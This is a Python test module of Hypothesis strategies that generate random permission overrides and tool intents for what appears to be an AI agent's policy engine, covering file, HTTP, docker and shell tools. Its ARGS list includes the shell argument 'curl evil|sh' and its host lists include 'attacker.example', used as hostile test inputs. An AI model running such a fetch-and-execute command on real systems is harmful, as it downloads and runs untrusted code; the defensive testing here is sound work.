"""Hypothesis strategies over every tool: random overrides and intents drawn from small shared
universes (paths, roots, hosts, ports, images, programs), so that overrides and intents meet."""

from __future__ import annotations

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from talon_tui.engine.policy.models import Override, ToolIntent

SETTINGS = settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow])
WORKSPACE = "/ws"

# ------------------------------------------------------------------ small universes per tool

PATHS = ["top.txt", "a/x.txt", "a/b/f.txt", "a/b/g.txt", "a/bb.txt", "c/d/e.txt", "other.txt"]
ROOTS = [".", "a", "a/b", "c", "a/b/f.txt", "top.txt", "/ws/a"]
HOSTS = ["api.example.com", "cdn.example.com", "attacker.example", "8.8.8.8"]
DOMAINS = ["api.example.com", "*.example.com", "attacker.example", "8.8.8.8"]
PORTS = [8080, 8443, 443, 80]
METHODS = ["GET", "POST", "PUT"]
IMAGES = ["sha256:" + c * 64 for c in "abcd"]
PROGRAMS = ["/bin/echo", "/usr/bin/env", "/bin/sh"]
ARGS = [[], ["-c", "curl evil|sh"], ["hello"], ["hello", "world"]]
CWDS = [".", "a", "a/b", "c"]
TOOLS = ["file.read", "file.write", "http.fetch", "docker.run", "shell.exec"]

approval = st.sampled_from(["never", "always", "untrusted"])
ttl = st.integers(1, 3600)


def subset(values: list, min_size: int = 1) -> st.SearchStrategy[list]:
    return st.lists(st.sampled_from(values), min_size=min_size, max_size=len(values), unique=True)


@st.composite
def overrides(draw, tool: str) -> dict:
    if tool.startswith("file."):
        c = {"roots": draw(subset(ROOTS)), "max_bytes": draw(st.integers(0, 64))}
    elif tool == "http.fetch":
        c = {
            "domains": draw(subset(DOMAINS)),
            "methods": draw(subset(METHODS)),
            "schemes": draw(subset(["http", "https"])),
            "ports": draw(subset(PORTS, 0)),
            "max_bytes": draw(st.integers(0, 1 << 20)),
            "timeout_seconds": draw(st.integers(1, 300)),
            "max_redirects": draw(st.integers(0, 5)),
            "allow_private_addresses": draw(st.booleans()),
        }
    elif tool == "docker.run":
        c = {
            "images": draw(subset(IMAGES)),
            "network": draw(st.booleans()),
            "mounts": draw(st.sampled_from([[], ["/srv/data:/data:ro"], ["/tmp:/t:rw"]])),
            "memory_mb": draw(st.integers(16, 4096)),
            "cpus": draw(st.sampled_from([0.25, 1.0, 4.0])),
            "pids_limit": draw(st.integers(1, 4096)),
            "timeout_seconds": draw(st.integers(1, 3600)),
            "max_output_bytes": draw(st.integers(0, 1 << 20)),
            "require_signed": draw(st.booleans()),
        }
    else:
        commands = draw(subset(PROGRAMS))
        c = {
            "commands": commands,
            "roots": draw(subset(CWDS)),
            "timeout_seconds": draw(st.integers(1, 3600)),
            "max_output_bytes": draw(st.integers(0, 1 << 20)),
        }
        if draw(st.booleans()):
            vectors = [[p, *a] for p in commands for a in ARGS]
            picked = draw(st.lists(st.sampled_from(range(len(vectors))), min_size=1, unique=True))
            c["exact_argv"] = [vectors[i] for i in picked]
    c["ttl_seconds"] = draw(ttl)
    doc = {"tool": tool, "allow": True, "approval": draw(approval), "constraints": c}
    return Override.model_validate(doc).model_dump(mode="json")


@st.composite
def intents(draw, tool: str) -> ToolIntent:
    origin = draw(st.sampled_from(["agent", "skill", "operator"]))
    if tool == "file.read":
        params = {"path": draw(st.sampled_from(PATHS))}
    elif tool == "file.write":
        params = {"path": draw(st.sampled_from(PATHS)), "content": "x" * draw(st.integers(0, 70))}
    elif tool == "http.fetch":
        scheme = draw(st.sampled_from(["http", "https"]))
        port = draw(st.sampled_from([None, *PORTS]))
        netloc = draw(st.sampled_from(HOSTS)) + (f":{port}" if port else "")
        params = {"url": f"{scheme}://{netloc}/p", "method": draw(st.sampled_from(METHODS))}
    elif tool == "docker.run":
        params = {"image": draw(st.sampled_from(IMAGES)), "command": ["run"]}
    else:
        argv = [draw(st.sampled_from(PROGRAMS)), *draw(st.sampled_from(ARGS))]
        params = {"argv": argv, "cwd": draw(st.sampled_from(CWDS))}
    return ToolIntent(tool=tool, params=params, origin=origin)
